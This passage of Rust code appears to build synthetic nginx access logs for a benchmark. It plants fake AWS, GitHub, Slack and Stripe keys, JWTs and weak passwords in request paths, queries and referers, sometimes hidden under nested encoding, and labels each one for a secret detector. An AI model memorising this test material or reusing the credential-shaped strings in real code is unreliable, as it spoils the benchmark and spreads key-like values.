        let publishable_key = format!("pk_live_51{}", rng.string(B62, 97));
        let oauth_client_id = format!(
            "{}-{}.apps.googleusercontent.com",
            rng.string(DIGITS, 12),
            rng.string(LOWER_ALNUM, 32)
        );
        let clients = build_clients(rng);
        Site {
            products,
            categories,
            colors,
            words,
            search_terms,
            blog_posts,
            campaigns,
            scripts,
            styles,
            fonts,
            release,
            error_tracking_key,
            search_key,
            maps_token,
            publishable_key,
            oauth_client_id,
            clients,
        }
    }

    /// Appends `template` to `out`, replacing each `{...}` placeholder with:
    ///
    /// * `{a|b|c}`: one of the alternatives; `{10-99}`: a number in the range;
    /// * `{hex:N}`, `{HEX:N}`, `{b64:N}` (base64url), `{b62:N}`, `{alnum:N}` (lower case),
    ///   `{digits:N}`: N random characters, N may be a range `LO-HI`;
    /// * `{uuid}`, `{ms}` (epoch ms now), `{load_ms}` (a little earlier), `{sec}` (epoch s);
    /// * `{product}` (`slug-id`), `{id}`, `{slug}` (all of the same product), `{category}`,
    ///   `{collection}` (a category, percent-encoded), `{color}`, `{word}`, `{term}` (search
    ///   text), `{post}`, `{campaign}`, `{locale}`, `{script}`, `{style}`, `{font}`, `{release}`,
    ///   `{csrf_token}`, and the site's public keys by field name.
    fn expand(&self, rng: &mut Rng, clock: &Clock, template: &'static str, out: &mut Vec<u8>) {
        let mut product = None;
        let mut rest = template;
        while let Some(open) = rest.find('{') {
            out.put(&rest[..open]);
            let close = open + rest[open..].find('}').expect("placeholders are closed");
            let spec = &rest[open + 1..close];
            rest = &rest[close + 1..];
            match spec {
                "product" | "id" | "slug" => {
                    let (id, slug) = product.get_or_insert_with(|| rng.pick(&self.products));
                    if spec != "id" {
                        out.put(slug);
                    }
                    if spec == "product" {
                        out.push(b'-');
                    }
                    if spec != "slug" {
                        out.num(*id);
                    }
                }
                "uuid" => out.uuid(rng),
                "ms" => out.num(clock.ms(rng)),
                "load_ms" => out.num(clock.ms(rng) - rng.range(1500, 90_000)),
                "sec" => out.num(clock.sec),
                "category" => out.put(rng.pick(&self.categories)),
                "collection" => out.put(rng.pick(&self.categories).replace('/', "%2F")),
                "color" => out.put(rng.pick(&self.colors)),
                "word" => out.put(rng.pick(&self.words)),
                "term" => out.put(rng.pick(&self.search_terms)),
                "post" => out.put(rng.pick(&self.blog_posts)),
                "campaign" => out.put(rng.pick(&self.campaigns)),
                "locale" => out.put(alternative(rng, "en-US|en-GB|de-DE|fr-FR|es-ES|nl-NL")),
                "script" => out.put(rng.pick(&self.scripts)),
                "style" => out.put(rng.pick(&self.styles)),
                "font" => out.put(rng.pick(&self.fonts)),
                "release" => out.put(&self.release),
                "csrf_token" => out.put(pct(&base64(&rng.bytes(64), B64STD, true))),
                "error_tracking_key" => out.put(&self.error_tracking_key),
                "search_key" => out.put(&self.search_key),
                "maps_token" => out.put(&self.maps_token),
                "publishable_key" => out.put(&self.publishable_key),
                "oauth_client_id" => out.put(&self.oauth_client_id),
                _ => {
                    if let Some((alphabet, len)) = spec.split_once(':') {
                        let alphabet = match alphabet {
                            "hex" => HEX,
                            "HEX" => HEX_UPPER,
                            "b64" => B64URL,
                            "b62" => B62,
                            "alnum" => LOWER_ALNUM,
                            "digits" => DIGITS,
                            _ => panic!("unknown alphabet in {{{spec}}}"),
                        };
                        let (lo, hi) = number_range(len).expect("a length or range");
                        let n = rng.range(lo, hi) as usize;
                        out.rand(rng, alphabet, n);
                    } else if let Some((lo, hi)) = number_range(spec) {
                        out.num(rng.range(lo, hi));
                    } else {
                        out.put(alternative(rng, spec));
                    }
                }
            }
        }
        out.put(rest);
    }

    /// A page view. `campaign` is the chance that it carries campaign parameters.
    fn page(&self, rng: &mut Rng, clock: &Clock, req: &mut Request, campaign: f64) {
        let template = rng.weighted(PAGE_VIEWS);
        self.expand(rng, clock, template, &mut req.target);
        if rng.chance(campaign) {
            req.query_sep();
            let template = rng.weighted(CAMPAIGNS);
            self.expand(rng, clock, template, &mut req.target);
        }
        req.status = rng.weighted(PAGE_STATUS);
        req.size = match req.status {
            200 => rng.range(8000, 118_000),
            301 | 302 => *rng.pick(&[162, 178, 0]),
            304 | 499 => 0,
            _ => rng.range(150, 6000),
        };
        if rng.chance(0.015) {
            req.method = alternative(rng, "HEAD|POST");
        }
    }

    /// The referer of a visit's first page.
    fn external_referer(&self, rng: &mut Rng, clock: &Clock, req: &mut Request) {
        let template = rng.weighted(EXTERNAL_REFERERS);
        self.expand(rng, clock, template, &mut req.referer);
    }

    /// A static asset of the current page.
    fn asset(&self, rng: &mut Rng, clock: &Clock, req: &mut Request) {
        let (template, smallest, largest) = rng.weighted(ASSETS);
        self.expand(rng, clock, template, &mut req.target);
        if !req.has_query() && rng.chance(0.1) {
            // A cache buster.
            let template = *rng.pick(&["?v={hex:7-20}", "?v={hex:8}", "?ver={6.4.3|6.7.1|3.7.1}"]);
            self.expand(rng, clock, template, &mut req.target);
        }
        req.status = rng.weighted(ASSET_STATUS);
        let size = rng.range(smallest, largest);
        req.size = match req.status {
            304 | 499 => 0,
            404 => rng.range(150, 550),
            206 => rng.range(1, size),
            _ => size,
        };
    }

    /// An XHR, JSONP or beacon call of a page, or a call of an API client.
    fn call(
        &self,
        rng: &mut Rng,
        clock: &Clock,
        req: &mut Request,
        calls: &[(u32, (&'static str, &'static str))],
    ) {
        let (methods, template) = rng.weighted(calls);
        req.method = alternative(rng, methods);
        self.expand(rng, clock, template, &mut req.target);
        req.status = rng.weighted(API_STATUS);
        if req.method != "GET" && req.status == 200 && rng.chance(0.4) {
            req.status = 201;
        }
        if req.method == "DELETE" && req.status == 200 {
            req.status = 204;
        }
        req.size = match req.status {
            204 | 304 => 0,
            200 | 201 => rng.range(40, 20_000),
            _ => rng.range(40, 400),
        };
    }

    /// A crawler request.
    fn crawl(&self, rng: &mut Rng, clock: &Clock, req: &mut Request) {
        match rng.below(100) {
            0..=7 => {
                req.target.put("/robots.txt");
                req.size = rng.range(300, 2000);
            }
            8..=15 => {
                let sitemaps =
                    "/sitemap.xml|/sitemap_products_1.xml?from=10000&to=40000|/sitemap_blogs_1.xml";
                req.target.put(alternative(rng, sitemaps));
                req.size = rng.range(3000, 60_000);
            }
            _ => {
                self.page(rng, clock, req, 0.0);
                req.method = "GET";
            }
        }
    }

    /// A vulnerability scanner probe.
    fn probe(&self, rng: &mut Rng, req: &mut Request) {
        req.proto = alternative(rng, "HTTP/1.1|HTTP/1.1|HTTP/1.0");
        match rng.below(100) {
            0..=5 => {
                // A TLS ClientHello sent to a plain-text port, escaped the way nginx logs it:
                // printable bytes as they are, the others (and `"`, `\`) as `\xHH`.
                req.raw = true;
                req.target.put("\\x16\\x03\\x01");
                for _ in 0..rng.below(8) {
                    let b = rng.next_u64() as u8;
                    if (b' '..=b'~').contains(&b) && b != b'"' && b != b'\\' {
                        req.target.push(b);
                    } else {
                        req.target.put("\\x");
                        req.target.push(HEX_UPPER[usize::from(b >> 4)]);
                        req.target.push(HEX_UPPER[usize::from(b & 15)]);
                    }
                }
                req.status = 400;
                req.size = 157;
                return;
            }
            6 => {
                req.raw = true;
                req.target.put(alternative(
                    rng,
                    "SSH-2.0-Go|\\x05\\x01\\x00|MGLNDD_203.0.113.10_443",
                ));
                req.status = 400;
                req.size = 157;
                return;
            }
            _ => req.target.put(rng.pick(SCANNER_TARGETS)),
        }
        req.method = alternative(rng, "GET|GET|GET|POST|HEAD");
        req.status = if rng.chance(0.85) {
            404
        } else {
            *rng.pick(&[403, 400, 301, 200])
        };
        req.size = if req.status == 301 {
            162
        } else {
            rng.range(150, 650)
        };
    }

    /// A health check or metrics scrape.
    fn health_check(&self, rng: &mut Rng, ua: &str, req: &mut Request) {
        let t = &mut req.target;
        req.size = if ua.starts_with("Prometheus") {
            t.put("/metrics");
            rng.range(9000, 12_000)
        } else if ua.starts_with("kube-probe") {
            t.put(alternative(rng, "/healthz|/readyz"));
            2
        } else {
            t.put(alternative(
                rng,
                "/health|/health|/status|/api/v1/health?deep=true",
            ));
            rng.range(15, 215)
        };
        req.status = if rng.chance(0.998) { 200 } else { 503 };
    }
}

/// A public-looking IPv4 address.
fn public_ipv4(rng: &mut Rng) -> String {
    loop {
        let a = rng.range(1, 223);
        if ![10, 100, 127, 169, 172, 192, 198, 203].contains(&a) {
            return format!(
                "{a}.{}.{}.{}",
                rng.range(0, 255),
                rng.range(0, 255),
                rng.range(1, 254)
            );
        }
    }
}

fn ipv6(rng: &mut Rng) -> String {
    let mut ip = String::from(alternative(rng, "2a02|2600|2a01|2001|2603|2804|2409"));
    for _ in 0..7 {
        ip.push_str(&format!(":{:x}", rng.range(0, 0xFFFF)));
    }
    ip
}

/// An address in a network given by its leading octets, e.g. `"66.249."`.
fn ip_in(rng: &mut Rng, prefix: &str) -> String {
    let mut ip = String::from(prefix);
    while ip.matches('.').count() < 3 {
        ip.push_str(&format!("{}.", rng.range(1, 254)));
    }
    ip.push_str(&rng.range(1, 254).to_string());
    ip
}

fn browser_ua(rng: &mut Rng) -> String {
    const WIN: &str = "Windows NT 10.0; Win64; x64";
    const MAC: &str = "Macintosh; Intel Mac OS X 10_15_7";
    const IOS: &[(&str, &str)] = &[
        ("17_7_2", "17.7.2"),
        ("18_6_2", "18.6.2"),
        ("18_7", "18.7"),
        ("26_0_1", "26.0.1"),
        ("26_1", "26.1"),
    ];
    const MODELS: &[&str] = &[
        "SM-S921B",
        "SM-A556B",
        "Pixel 8",
        "Pixel 9 Pro",
        "moto g84 5G",
        "CPH2581",
    ];
    let chrome = rng.range(136, 143);
    match rng.below(100) {
        0..=33 => format!(
            "Mozilla/5.0 ({}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Safari/537.36",
            rng.pick(&[WIN, WIN, MAC, "X11; Linux x86_64"])
        ),
        34..=55 => {
            let (os, version) = rng.pick(IOS);
            format!("Mozilla/5.0 (iPhone; CPU iPhone OS {os} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{version} Mobile/15E148 Safari/604.1")
        }
        56..=73 => format!(
            "Mozilla/5.0 (Linux; Android {}; {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Mobile Safari/537.36",
            rng.range(12, 16),
            rng.pick(MODELS)
        ),
        74..=82 => format!(
            "Mozilla/5.0 ({MAC}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{} Safari/605.1.15",
            alternative(rng, "18.6|18.7|26.0|26.1")
        ),
        83..=90 => {
            let v = rng.range(139, 146);
            format!(
                "Mozilla/5.0 ({}; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
                rng.pick(&[WIN, "X11; Ubuntu; Linux x86_64", "Macintosh; Intel Mac OS X 10.15"])
            )
        }
        91..=96 => format!(
            "Mozilla/5.0 ({WIN}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.0.0 Safari/537.36 Edg/{chrome}.0.{}.{}",
            rng.range(3000, 3600),
            rng.range(10, 150)
        ),
        _ => {
            let (os, _) = rng.pick(IOS);
            format!("Mozilla/5.0 (iPhone; CPU iPhone OS {os} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 401.0.0.36.77 (iPhone15,3; iOS {os}; en_US; en; scale=3.00; 1290x2796; 812345678)")
        }
    }
}

fn build_clients(rng: &mut Rng) -> [Vec<Client>; 5] {
    const BOTS: &[(&str, &str)] = &[
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "66.249."),
        ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.7390.122 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "66.249."),
        ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "157.55."),
        ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "54.36."),
        ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", "185.191."),
        ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "5.255."),
        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "69.171."),
        ("Mozilla/5.0 (compatible; Applebot/0.1; +http://www.apple.com/go/applebot)", "17.241."),
        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "20.171."),
    ];
    const SCANNERS: &[&str] = &[
        "Mozilla/5.0 zgrab/0.x",
        "curl/7.88.1",
        "python-requests/2.32.3",
        "Go-http-client/1.1",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Nuclei",
        "Mozilla/5.0 (l9scan/2.0.; +https://leakix.net)",
        "-",
    ];
    const API_UAS: &[&str] = &[
        "python-requests/2.32.3",
        "okhttp/4.12.0",
        "axios/1.7.9",
        "Go-http-client/2.0",
        "Apache-HttpClient/4.5.14 (Java/21.0.5)",
        "ExampleShop/6.4.1 (iPhone; iOS 18.6.2; Scale/3.00)",
        "ExampleShop/6.4.0 (Android 15; Pixel 9 Pro)",
        "Dalvik/2.1.0 (Linux; U; Android 14; SM-A556B Build/UP1A.231005.007)",
        "PostmanRuntime/7.43.0",
        "curl/8.11.1",
    ];
    const MONITORS: &[(&str, &str)] = &[
        ("kube-probe/1.31", "10.244."),
        ("ELB-HealthChecker/2.0", "10.0."),
        ("Prometheus/3.1.0", "10.0."),
        ("Blackbox Exporter/0.25.0", "10.0."),
        (
            "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
            "216.144.",
        ),
    ];
    let browsers = (0..20_000)
        .map(|_| Client {
            ip: if rng.chance(0.12) {
                ipv6(rng)
            } else {
                public_ipv4(rng)
            },
            ua: browser_ua(rng),
            user: "-",
        })
        .collect();
    let bots = (0..BOTS.len() * 20)
        .map(|i| {
            let (ua, net) = BOTS[i % BOTS.len()];
            Client {
                ip: ip_in(rng, net),
                ua: ua.to_string(),
                user: "-",
            }
        })
        .collect();
    let apis = (0..300)
        .map(|_| Client {
            ip: if rng.chance(0.8) {
                public_ipv4(rng)
            } else {
                ipv6(rng)
            },
            ua: rng.pick(API_UAS).to_string(),
            user: if rng.chance(0.1) { "partner-sync" } else { "-" },
        })
        .collect();
    let monitors = (0..MONITORS.len() * 6)
        .map(|i| {
            let (ua, net) = MONITORS[i % MONITORS.len()];
            Client {
                ip: ip_in(rng, net),
                ua: ua.to_string(),
                user: "-",
            }
        })
        .collect();
    let scanners = (0..500)
        .map(|_| Client {
            ip: public_ipv4(rng),
            ua: rng.pick(SCANNERS).to_string(),
            user: "-",
        })
        .collect();
    // Same order as `Class`.
    [browsers, bots, apis, monitors, scanners]
}

/// What a planted credential is; [`Kind::name`] is its label.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    GoogleApiKey,
    AwsAccessKeyId,
    AwsSecretAccessKey,
    GithubPat,
    GithubFineGrained,
    GitlabPat,
    SlackToken,
    SlackWebhook,
    StripeSecret,
    StripeRestricted,
    Jwt,
    GenericApiKey,
    Password,
    UrlUserinfo,
}

/// How often each kind is planted.
const KIND_MIX: &[(u32, Kind)] = &[
    (12, Kind::GoogleApiKey),
    (6, Kind::AwsAccessKeyId),
    (6, Kind::AwsSecretAccessKey),
    (9, Kind::GithubPat),
    (4, Kind::GithubFineGrained),
    (5, Kind::GitlabPat),
    (6, Kind::SlackToken),
    (5, Kind::SlackWebhook),
    (6, Kind::StripeSecret),
    (3, Kind::StripeRestricted),
    (12, Kind::Jwt),
    (12, Kind::GenericApiKey),
    (9, Kind::Password),
    (5, Kind::UrlUserinfo),
];

impl Kind {
    fn name(self) -> &'static str {
        match self {
            Kind::GoogleApiKey => "google_api_key",
            Kind::AwsAccessKeyId => "aws_access_key_id",
            Kind::AwsSecretAccessKey => "aws_secret_access_key",
            Kind::GithubPat => "github_pat",
            Kind::GithubFineGrained => "github_fine_grained",
            Kind::GitlabPat => "gitlab_pat",
            Kind::SlackToken => "slack_token",
            Kind::SlackWebhook => "slack_webhook",
            Kind::StripeSecret => "stripe_secret",
            Kind::StripeRestricted => "stripe_restricted",
            Kind::Jwt => "jwt",
            Kind::GenericApiKey => "generic_api_key",
            Kind::Password => "password",
            Kind::UrlUserinfo => "url_userinfo",
        }
    }

    /// Paths of endpoints that receive this kind in their query string.
    fn endpoints(self) -> &'static [&'static str] {
        match self {
            Kind::GoogleApiKey => &[
                "/maps/api/geocode/json",
                "/api/v1/geocode",
                "/maps/api/js",
                "/api/v1/translate",
            ],
            Kind::AwsAccessKeyId => &[
                "/downloads/invoices/2026-11.pdf",
                "/media/exports/catalog.zip",
            ],
            Kind::AwsSecretAccessKey => &["/api/v1/storage/test", "/admin/backups/configure"],
            Kind::GithubPat | Kind::GithubFineGrained => &[
                "/ci/deploy/hook",
                "/api/v1/integrations/repo/sync",
                "/status/build",
            ],
            Kind::GitlabPat => &["/ci/pipeline/trigger", "/api/v1/integrations/repo/sync"],
            Kind::SlackToken => &["/integrations/chat/notify", "/api/v1/alerts/test"],
            Kind::SlackWebhook => &["/admin/integrations/test", "/api/v1/notifications/settings"],
            Kind::StripeSecret | Kind::StripeRestricted => &[
                "/api/v1/payments/config",
                "/checkout/debug",
                "/api/v2/billing/sync",
            ],
            Kind::Jwt => &[
                "/api/v1/stream",
                "/ws/notifications",
                "/api/v1/orders/export.csv",
                "/graphql",
                "/account/auth/complete",
            ],
            Kind::GenericApiKey => &[
                "/api/v2/reports/export",
                "/api/v1/products.json",
                "/feeds/catalog.xml",
                "/api/v2/inventory",
            ],
            Kind::Password => &[
                "/account/login",
                "/api/v1/auth/login",
                "/wp-login.php",
                "/admin/login",
            ],
            Kind::UrlUserinfo => &[
                "/api/v2/reports/export?format=csv",
                "/admin/",
                "/backup/latest.tar.gz",
            ],
        }
    }

    /// Whether the credential also turns up as a path segment.
    fn in_paths(self) -> bool {
        matches!(
            self,
            Kind::GoogleApiKey
                | Kind::GithubPat
                | Kind::GithubFineGrained
                | Kind::GitlabPat
                | Kind::SlackToken
                | Kind::StripeSecret
                | Kind::StripeRestricted
                | Kind::Jwt
                | Kind::GenericApiKey
        )
    }
}

/// Where in the record a credential was planted.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    Query,
    Path,
    Referer,
    Userinfo,
}

impl Place {
    fn name(self) -> &'static str {
        match self {
            Place::Query => "request.query",
            Place::Path => "request.path",
            Place::Referer => "referer",
            Place::Userinfo => "userinfo",
        }
    }
}

/// How a credential's bytes are encoded in the line; see the module documentation.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Encoding {
    Plain,
    Percent,
    Double,
    Nested,
}

impl Encoding {
    fn name(self) -> &'static str {
        match self {
            Encoding::Plain => "plain",
            Encoding::Percent => "percent",
            Encoding::Double => "double",
            Encoding::Nested => "nested",
        }
    }
}

/// One planted credential, as written to the labels file.
struct Label {
    kind: Kind,
    place: Place,
    encoding: Encoding,
    param: &'static str,
    secret: String,
}

/// A query parameter planted together with a credential; `kind` is set on the ones to label.
struct Param {
    name: &'static str,
    value: String,
    kind: Option<Kind>,
}

impl Param {
    fn secret(name: &'static str, value: String, kind: Kind) -> Param {
        Param {
            name,
            value,
            kind: Some(kind),
        }
    }

    fn other(name: &'static str, value: String) -> Param {
        Param {
            name,
            value,
            kind: None,
        }
    }
}

/// A fresh random credential of `kind` (not of `UrlUserinfo`).
fn credential(rng: &mut Rng, clock: &Clock, kind: Kind) -> String {
    match kind {
        Kind::GoogleApiKey => format!("AIza{}", rng.string(B64URL, 35)),
        Kind::AwsAccessKeyId => format!("AKIA{}", rng.string(B32, 16)),
        Kind::AwsSecretAccessKey => rng.string(B64STD, 40),
        Kind::GithubPat => {
            let prefix = rng.weighted(&[
                (6, "ghp_"),
                (1, "gho_"),
                (1, "ghu_"),
                (1, "ghs_"),
                (1, "ghr_"),
            ]);
            let body = rng.string(B62, 30);
            let mut crc = crc32(body.as_bytes());
            let mut checksum = [b'0'; 6];
            for digit in checksum.iter_mut().rev() {
                *digit = B62[(crc % 62) as usize];
                crc /= 62;
            }
            format!("{prefix}{body}{}", String::from_utf8_lossy(&checksum))
        }
        Kind::GithubFineGrained => {
            format!("github_pat_{}_{}", rng.string(B62, 22), rng.string(B62, 59))
        }
        Kind::GitlabPat => format!("glpat-{}", rng.string(B64URL, 20)),
        Kind::SlackToken => {
            let (a, b) = (rng.below(3) + 10, rng.below(2) + 12);
            format!(
                "xoxb-{}{}-{}{}-{}",
                rng.range(1, 9),
                rng.string(DIGITS, a - 1),
                rng.range(1, 9),
                rng.string(DIGITS, b - 1),
                rng.string(B62, 24)
            )
        }
        Kind::SlackWebhook => {
            let (a, b) = (rng.below(3) + 8, rng.below(3) + 8);
            format!(
                "https://hooks.slack.com/services/T{}/B{}/{}",
                rng.string(UPPER_ALNUM, a),
                rng.string(UPPER_ALNUM, b),
                rng.string(B62, 24)
            )
        }
        Kind::StripeSecret | Kind::StripeRestricted => {
            let prefix = if kind == Kind::StripeSecret {
                "sk_live_"
            } else {
                "rk_live_"
            };
            if rng.chance(0.5) {
                format!("{prefix}{}", rng.string(B62, 24))
            } else {
                format!("{prefix}51{}", rng.string(B62, 97))
            }
        }
        Kind::Jwt => jwt(rng, clock),
        Kind::GenericApiKey => {
            if rng.chance(0.5) {
                rng.string(HEX, 32)
            } else {
                rng.string(B62, 40)
            }
        }
        Kind::Password => password(rng),
        Kind::UrlUserinfo => {
            let n = rng.range(12, 20) as usize;
            rng.string(B62, n)
        }
    }
}

/// A signed-looking JSON Web Token issued shortly before the current log time.
fn jwt(rng: &mut Rng, clock: &Clock) -> String {
    let header = match rng.below(3) {
        0 => r#"{"alg":"HS256","typ":"JWT"}"#.to_string(),
        1 => format!(
            r#"{{"alg":"RS256","typ":"JWT","kid":"{}"}}"#,
            rng.string(HEX, 16)
        ),
        _ => format!(
            r#"{{"typ":"JWT","alg":"ES256","kid":"{}"}}"#,
            rng.string(B64URL, 12)
        ),
    };
    let iat = clock.sec - rng.range(0, 3000);
    let claims = match rng.below(3) {
        0 => format!(
            r#"{{"sub":"{}","name":"{}","iat":{iat},"exp":{}}}"#,
            rng.range(1, 9_000_000),
            alternative(rng, "Jane Doe|Ada L|m.schmidt|kwame.o"),
            iat + 3600
        ),
        1 => format!(
            r#"{{"iss":"https://auth.example.com/","sub":"user|{}","aud":"https://api.example.com","iat":{iat},"exp":{},"scope":"openid profile email read:orders"}}"#,
            rng.string(HEX, 24),
            iat + 86_400
        ),
        _ => format!(
            r#"{{"user_id":{},"role":"customer","sid":"{}","iat":{iat},"exp":{}}}"#,
            rng.range(1, 9_000_000),
            rng.string(HEX, 32),
            iat + 900
        ),
    };
    format!(
        "{}.{}.{}",
        base64(header.as_bytes(), B64URL, false),
        base64(claims.as_bytes(), B64URL, false),
        base64(&rng.bytes(32), B64URL, false)
    )
}

/// A password of the kind people choose, sometimes with `!`, `#`, `@`, `%`.
fn password(rng: &mut Rng) -> String {
    match rng.below(5) {
        0 => format!(
            "{}{}{}",
            alternative(rng, "Summer|Winter|Spring|Autumn"),
            rng.range(2019, 2026),
            alternative(rng, "!|!!|#|?")
        ),
        1 => format!("P@ssw0rd{}", rng.range(1, 999)),
        2 => format!(
            "{}#{}",
            alternative(rng, "Welcome|Company|Example|Letmein"),
            rng.range(1000, 9999)
        ),
        3 => format!("correct-horse-{}", rng.string(B62, 6)),
        _ => {
            let n = rng.range(10, 20) as usize;
            rng.string(PASSWORD_CHARS, n)
        }
    }
}

/// The parameters that carry a credential of `kind`, with their companions.
fn credential_params(rng: &mut Rng, clock: &Clock, kind: Kind) -> Vec<Param> {
    let secret = credential(rng, clock, kind);
    match kind {
        Kind::GoogleApiKey => vec![Param::secret("key", secret, kind)],
        Kind::AwsAccessKeyId => vec![
            Param::secret("AWSAccessKeyId", secret, kind),
            Param::other("Expires", (clock.sec + 3600).to_string()),
            Param::other("Signature", base64(&rng.bytes(20), B64STD, true)),
        ],
        Kind::AwsSecretAccessKey => vec![
            Param::secret(
                "aws_access_key_id",
                credential(rng, clock, Kind::AwsAccessKeyId),
                Kind::AwsAccessKeyId,
            ),
            Param::secret("aws_secret_access_key", secret, kind),
        ],
        Kind::GithubPat | Kind::GithubFineGrained => {
            vec![Param::secret(
                alternative(rng, "token|access_token|github_token"),
                secret,
                kind,
            )]
        }
        Kind::GitlabPat => {
            vec![Param::secret(
                alternative(rng, "private_token|token|access_token"),
                secret,
                kind,
            )]
        }
        Kind::SlackToken => vec![
            Param::secret(alternative(rng, "token|slack_token"), secret, kind),
            Param::other("channel", format!("#ops-{}", rng.string(LOWER_ALNUM, 6))),
        ],
        Kind::SlackWebhook => vec![Param::secret("webhook", secret, kind)],
        Kind::StripeSecret | Kind::StripeRestricted => {
            vec![Param::secret(
                alternative(rng, "stripe_key|secret|api_key|key"),
                secret,
                kind,
            )]
        }
        Kind::Jwt => {
            let name = alternative(rng, "access_token|id_token|jwt");
            let mut params = vec![Param::secret(name, secret, kind)];
            if rng.chance(0.3) {
                params.push(Param::other("token_type", "Bearer".to_string()));
                params.push(Param::other("expires_in", "3600".to_string()));
            }
            params
        }
        Kind::GenericApiKey => vec![Param::secret(
            alternative(
                rng,
                "api_key|apikey|apiKey|access_token|client_secret|auth_token",
            ),
            secret,
            kind,
        )],
        Kind::Password => vec![
            Param::other(
                alternative(rng, "username|email|log|user"),
                format!(
                    "{}@example.com",
                    alternative(rng, "jdoe|m.schmidt|admin|kwame.o|ops")
                ),
            ),
            Param::secret(alternative(rng, "password|passwd|pwd"), secret, kind),
        ],
        Kind::UrlUserinfo => unreachable!("userinfo is not a query parameter"),
    }
}

/// Picks an encoding that shows in the bytes of the labelled values.
fn choose_encoding(rng: &mut Rng, params: &[Param]) -> Encoding {
    let secrets = || params.iter().filter(|p| p.kind.is_some());
    // Secret keys are base64: clients encode their `/` and `+`.
    let must_encode = |p: &Param| {
        !p.value.bytes().all(raw_ok)
            || (p.kind == Some(Kind::AwsSecretAccessKey) && p.value.contains('/'))
    };
    if secrets().any(must_encode) {
        rng.weighted(&[
            (50, Encoding::Percent),
            (20, Encoding::Double),
            (30, Encoding::Nested),
        ])
    } else if secrets().any(|p| pct(&p.value) != p.value) {
        rng.weighted(&[
            (45, Encoding::Plain),
            (25, Encoding::Percent),
            (12, Encoding::Double),
            (18, Encoding::Nested),
        ])
    } else {
        rng.weighted(&[(80, Encoding::Plain), (20, Encoding::Nested)])
    }
}

/// `name=value&...` of the planted parameters in `encoding`.
fn encode_params(rng: &mut Rng, params: &[Param], encoding: Encoding) -> String {
    let join = |encode: &dyn Fn(&Param) -> String| {
        let pairs: Vec<String> = params
            .iter()
            .map(|p| format!("{}={}", p.name, encode(p)))
            .collect();
        pairs.join("&")
    };
    match encoding {
        Encoding::Plain => join(&|p| {
            if p.kind.is_some() {
                p.value.clone()
            } else {
                pct(&p.value)
            }
        }),
        Encoding::Percent => join(&|p| pct(&p.value)),
        Encoding::Double => join(&|p| pct(&pct(&p.value))),
        Encoding::Nested => {
            let inner = format!(
                "https://{}?{}",
                alternative(
                    rng,
                    "api.example.com/cb|app.example.com/oauth/callback|partner.example.net/return"
                ),
                join(&|p| pct(&p.value))
            );
            let outer = alternative(
                rng,
                "return_to|redirect_uri|next|continue|callback_url|RelayState",
            );
            format!("{outer}={}", pct(&inner))
        }
    }
}

/// How many different [`filler_param`]s there are.
const FILLER_KINDS: usize = 12;

/// An everyday query parameter (one of [`FILLER_KINDS`]) to surround planted ones with.
fn filler_param(rng: &mut Rng, clock: &Clock, which: usize) -> String {
    match which {
        0 => "format=json".to_string(),
        1 => format!("locale={}", alternative(rng, "en-US|en-GB|de-DE|fr-FR")),
        2 => format!("page={}", rng.range(1, 9)),
        3 => format!("limit={}", rng.pick(&[10, 20, 50, 100])),
        4 => format!("v={}", rng.string(HEX, 8)),
        5 => format!("_={}", clock.ms(rng)),
        6 => format!("ts={}", clock.sec),
        7 => {
            let mut id = Vec::new();
            id.uuid(rng);
            format!("request_id={}", String::from_utf8_lossy(&id))
        }
        8 => "utm_source=dashboard&utm_medium=link".to_string(),
        9 => format!(
            "region={}",
            alternative(rng, "us-east-1|eu-west-1|ap-southeast-2")
        ),
        10 => format!("state={}", rng.string(B64URL, 24)),
        _ => "include=items%2Ccustomer".to_string(),
    }
}

/// A query string with `planted` as its first, a middle or its last parameter.
fn query_with(rng: &mut Rng, clock: &Clock, planted: String) -> String {
    let n = rng.below(5);
    let mut kinds: Vec<usize> = Vec::with_capacity(n);
    while kinds.len() < n {
        let k = rng.below(FILLER_KINDS);
        if !kinds.contains(&k) {
            kinds.push(k);
        }
    }
    let mut parts: Vec<String> = kinds.iter().map(|&k| filler_param(rng, clock, k)).collect();
    let at = match rng.below(3) {
        0 => 0,
        1 if n >= 2 => 1 + rng.below(n - 1),
        _ => n,
    };
    parts.insert(at, planted);
    parts.join("&")
}

/// Replaces the request target with one that carries a planted credential.
fn set_target(rng: &mut Rng, req: &mut Request, target: &str) {
    req.target.clear();
    req.target.put(target);
    req.raw = false;
    if !matches!(req.method, "GET" | "POST" | "HEAD") {
        req.method = "GET";
    }
    if req.status >= 300 && req.status != 304 && rng.chance(0.7) {
        req.status = 200;
        req.size = rng.range(200, 20_000);
    }
}

fn set_referer(req: &mut Request, referer: &str) {
    req.referer.clear();
